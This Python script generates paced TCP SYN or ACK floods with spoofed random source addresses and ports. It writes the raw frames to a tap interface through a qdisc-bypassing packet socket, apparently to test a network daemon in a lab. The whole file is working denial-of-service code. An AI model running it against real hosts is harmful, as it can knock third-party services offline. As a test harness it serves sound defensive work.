#!/usr/bin/python3
"""synflood.py IFACE SRC_MAC DST_MAC DST N PREFIX DPORT [FLAGS]

N TCP SYNs (FLAGS S; or A: bare ACKs, with random acknowledgment numbers)
to DST:DPORT, each from a random address of PREFIX and a random port: for
IPv4 PREFIX is a /16's first two bytes (10.200: 10.200.0.1 to
10.200.255.254), for IPv6 a /64 (fd00:200::, the last 64 bits random).
Sent on IFACE
through an AF_PACKET socket that bypasses the qdisc (a frame the tap
cannot take fails to send: sent again, a millisecond later).  The first is built
by scapy; the others are it with the source, port and sequence number
changed and both checksums made again (scapy would take seconds for each
thousand), each checked against scapy's for a few of them.  Paced: a
pause of 5 ms every 100 frames.  Prints the number sent.
"""
import random
import socket
import struct
import sys
import time

from scapy.all import IP, TCP, Ether, IPv6, raw

iface, smac, dmac, dst, n, prefix, dport = sys.argv[1:8]
n, dport = int(n), int(dport)
flags = sys.argv[8] if len(sys.argv) > 8 else "S"
rnd = random.Random(4987 if flags == "S" else 1337)  # ACKs from other ends than the SYNs


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


V6 = ":" in dst
L4 = 54 if V6 else 34  # the TCP header's offset in the frame


def scapy_syn(src, sport, seq, ack):
    ip = IPv6(src=src, dst=dst, hlim=64) if V6 else IP(src=src, dst=dst, ttl=64)
    return raw(
        Ether(src=smac, dst=dmac)
        / ip
        / TCP(sport=sport, dport=dport, flags=flags, seq=seq, ack=ack, window=64240, options=[("MSS", 1440)])
    )


template = bytearray(scapy_syn("::" if V6 else "0.0.0.0", 1, 0, 0))


def syn(src, sport, seq, ack):
    f = bytearray(template)
    if V6:
        f[22:38] = socket.inet_pton(socket.AF_INET6, src)
        pseudo = f[22:54] + struct.pack("!IxxxB", len(f) - L4, 6)
    else:
        f[26:30] = socket.inet_aton(src)
        f[24:26] = b"\0\0"
        f[24:26] = struct.pack("!H", csum(bytes(f[14:34])))
        pseudo = f[26:34] + struct.pack("!BBH", 0, 6, len(f) - L4)
    f[L4 : L4 + 2] = struct.pack("!H", sport)
    f[L4 + 4 : L4 + 8] = struct.pack("!I", seq)
    f[L4 + 8 : L4 + 12] = struct.pack("!I", ack)
    f[L4 + 16 : L4 + 18] = b"\0\0"
    f[L4 + 16 : L4 + 18] = struct.pack("!H", csum(bytes(pseudo) + bytes(f[L4:])))
    return bytes(f)


frames = []
for i in range(n):
    if V6:
        src = "%s%x:%x:%x:%x" % (prefix, *(rnd.randrange(1, 65536) for _ in range(4)))
    else:
        src = "%s.%d.%d" % (prefix, rnd.randrange(256), rnd.randrange(1, 255))
    sport, seq = rnd.randrange(1024, 65536), rnd.getrandbits(32)
    ack = rnd.getrandbits(32) if "A" in flags else 0
    frames.append(syn(src, sport, seq, ack))
    if i < 5 and frames[-1] != scapy_syn(src, sport, seq, ack):
        sys.exit("frame %d differs from scapy's" % i)

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.setsockopt(263, 20, 1)  # SOL_PACKET, PACKET_QDISC_BYPASS
s.bind((iface, 0))
sent = 0
for i, f in enumerate(frames):
    # The tap's queue full (sonded reading slower than this writes): the
    # send fails, and is tried again, 1 ms later, for up to a second.
    for _ in range(1000):
        try:
            s.send(f)
            sent += 1
            break
        except OSError:
            time.sleep(0.001)
    if i % 100 == 99:
        time.sleep(0.005)
print(sent)
